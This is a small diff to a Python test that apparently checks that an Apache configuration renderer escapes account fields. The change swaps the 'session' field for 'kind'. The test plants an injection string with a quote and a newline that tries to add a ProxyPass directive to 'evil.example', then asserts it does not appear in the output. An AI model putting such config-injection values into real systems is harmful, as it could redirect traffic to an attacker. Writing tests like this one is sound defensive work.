@@ -66,7 +66,7 @@ def test_the_single_rule_takes_every_path_that_the_token_file_may_have_and_no_ot
 @pytest.mark.parametrize("form", Form)
 def test_no_name_and_no_password_gets_in(form):
     evil = 'x"\nProxyPass / http://evil.example/\n#'
-    accounts = (account("ws01", display_name=evil, session=evil),)
+    accounts = (account("ws01", display_name=evil, kind=evil),)
     text = render(Roster(accounts), Settings(apache={"form": form}))
     assert "evil" not in text
     assert "canary77" not in text
